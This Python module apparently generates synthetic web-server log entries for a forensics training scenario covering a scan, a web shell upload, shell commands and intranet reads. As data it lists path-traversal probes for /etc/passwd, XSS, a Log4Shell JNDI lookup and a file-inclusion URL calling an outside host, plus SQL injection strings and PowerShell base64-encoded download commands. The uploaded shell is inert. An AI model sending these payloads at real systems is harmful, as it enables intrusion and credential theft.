"""The intruder's requests: the scan of the portal, the upload, the web shell, and the intranet read from WEB01."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from urllib.parse import quote

from forensics.demo.cast import ATTACKER_IP, PORTAL, WEB01
from forensics.demo.draw import Draw
from forensics.demo.scenario import (
    DOWNLOAD_SCRIPT,
    INTRANET_READS,
    ORDINARY_AGENT,
    SCAN_BEGIN,
    SCAN_END,
    SECOND,
    SHELL_AGENT,
    SHELL_COMMANDS,
    SHELL_PAGE,
    UPLOAD,
    at,
)
from forensics.demo.web_background import size_of
from forensics.demo.web_requests import Request

NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{number:06d})"
GOBUSTER = "gobuster/3.6"
SQLMAP = "sqlmap/1.8.4#stable (https://sqlmap.org)"

_STEMS = (
    "admin", "administrator", "backup", "bak", "old", "test", "tmp", "dev", "config", "conf", "db", "sql", "dump", "cgi-bin",
    "phpmyadmin", "pma", "manager", "console", "login", "user", "api", "private", "secret", "server-status", "info", "shell",
    "cmd", "install", "setup", "upload", "files", "data", "logs", "include", "lib", "vendor", "wp-admin", "wp-login", "webdav",
)  # fmt: skip
_ENDINGS = ("", "/", ".php", ".bak", ".zip", ".old", ".sql", ".txt", ".inc")
_PROBES: tuple[tuple[str, int], ...] = (
    ("/.git/HEAD", 404), ("/.env", 404), ("/web.config", 404), ("/phpinfo.php", 404), ("/.htpasswd", 403), ("/.svn/entries", 404),
    ("/documents/?f=../../../../../../windows/win.ini", 400), ("/documents/?f=..%2f..%2f..%2f..%2fetc%2fpasswd", 400),
    ("/documents/%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini", 404), ("/cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 400),
    ("/recherche?q=%3Cscript%3Ealert(1)%3C/script%3E", 200), ("/index.php?page=http://203.0.113.66/x.txt", 404),
    ("/recherche?q=${jndi:ldap://203.0.113.66:1389/a}", 200),
)  # fmt: skip
_INJECTIONS = (
    "1%27", "1%27%20OR%20%271%27=%271", "1%27%20AND%20SLEEP(5)--%20-", "1%27%20UNION%20SELECT%20NULL,NULL,NULL--%20-",
    "1%27%20UNION%20ALL%20SELECT%20table_name,NULL,NULL%20FROM%20information_schema.tables--%20-",
    "-1%20UNION%20SELECT%20user,password,NULL%20FROM%20mysql.user--", "1;%20WAITFOR%20DELAY%20%270:0:5%27--",
    "1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,version()))--%20-", "1%27%20ORDER%20BY%209--%20-", "1)%20OR%20(1=1",
)  # fmt: skip


def encoded_command() -> str:
    """The download script as PowerShell's -enc takes it: base64 of UTF-16LE."""
    return base64.b64encode(DOWNLOAD_SCRIPT.encode("utf-16-le")).decode()


def shell_command(command: str) -> str:
    return command.replace("{ENCODED}", encoded_command())


def scan(seed: int) -> Iterator[Request]:
    """The scan: a scanner's probes, a dictionary of names, SQL injection; several requests a second in places."""
    draw = Draw(seed, "scan")
    wanted: list[tuple[str, int, str]] = []
    for number, (target, status) in enumerate(_PROBES * 3):
        wanted.append((target, status, NIKTO.format(number=number * 7 + 1)))
    for stem in _STEMS:
        wanted += [(f"/{stem}{ending}", 403 if stem == "server-status" else 404, GOBUSTER) for ending in _ENDINGS]
    for number in range(48):
        target = f"/recherche?q={_INJECTIONS[number % len(_INJECTIONS)]}"
        wanted.append((target, 500 if number % 4 == 3 else 200, SQLMAP))
    step = (SCAN_END - SCAN_BEGIN) // len(wanted)
    for number, (target, status, agent) in enumerate(wanted):
        moment = SCAN_BEGIN + number * step + draw.below(step // 2)
        size = {404: 1_245, 403: 1_199, 400: 983, 500: 1_630}.get(status) or size_of(target, 1_200, 6_000)
        yield Request(
            moment, f"a{number // 20}", ATTACKER_IP, "GET", target, status, size, agent, took_ms=draw.between(1, 30)
        )


def intrusion(seed: int) -> Iterator[Request]:
    """The upload of the web shell, and every command given to it, removed from the log later or not."""
    form = f"http://{PORTAL}/demandes/depot.php"
    draw = Draw(seed, "intrusion")

    def ask(moment: int, method: str, target: str, sent: bytes = b"", answer: bytes = b"") -> Request:
        agent = SHELL_AGENT if "?cmd=" in target else ORDINARY_AGENT
        referer = form if method == "POST" else "-"
        size = len(answer) or size_of(target, 200, 6_000)
        name = f"x{moment}"
        return Request(
            moment, name, ATTACKER_IP, method, target, 200, size, agent, referer, sent=sent, answer=answer, took_ms=64
        )

    boundary = "----form" + draw.hex(16)
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="piece"; filename="{SHELL_PAGE.rsplit("/", 1)[1]}"\r\n'
        "Content-Type: application/pdf\r\n\r\n%PDF-1.4\n<?php /* inert training sample: the code was taken out */ ?>\r\n"
        f"--{boundary}--\r\n"
    )
    yield ask(UPLOAD - 21 * SECOND, "GET", "/demandes/depot.php")
    yield ask(UPLOAD, "POST", "/demandes/upload.php", body.encode())
    yield ask(UPLOAD + 14 * SECOND, "GET", SHELL_PAGE, answer=b"%PDF-1.4\n")
    for clock, command, _ in SHELL_COMMANDS:
        answer = _answer(command).encode("cp850", "replace")
        target = f"{SHELL_PAGE}?cmd={quote(shell_command(command), safe='')}"
        yield ask(at(clock) - 180_000_000, "GET", target, answer=answer)


def _answer(command: str) -> str:
    if command == "whoami":
        return "tamrirt\\svc_web\r\n"
    if command.startswith("ipconfig"):
        return f"Configuration IP de Windows\r\n   Nom de l'h\u00f4te . . . : WEB01\r\n   Adresse IPv4 . . : {WEB01.ip}\r\n"
    if "{ENCODED}" in command:
        return "\r\n"
    return f"C:\\Apache24\\htdocs\\uploads> {command}\r\n" + "".join(f"  {number:03d} ...\r\n" for number in range(20))


def intranet_reads() -> Iterator[Request]:
    """What the intruder reads of the intranet, from WEB01."""
    for clock, path, query in INTRANET_READS:
        target = f"{path}?{query}" if query else path
        moment = at(clock) + 140_000_000
        yield Request(
            moment, f"i{clock}", WEB01.ip, "GET", target, 200, size_of(path, 1_500, 6_500), SHELL_AGENT, took_ms=31
        )
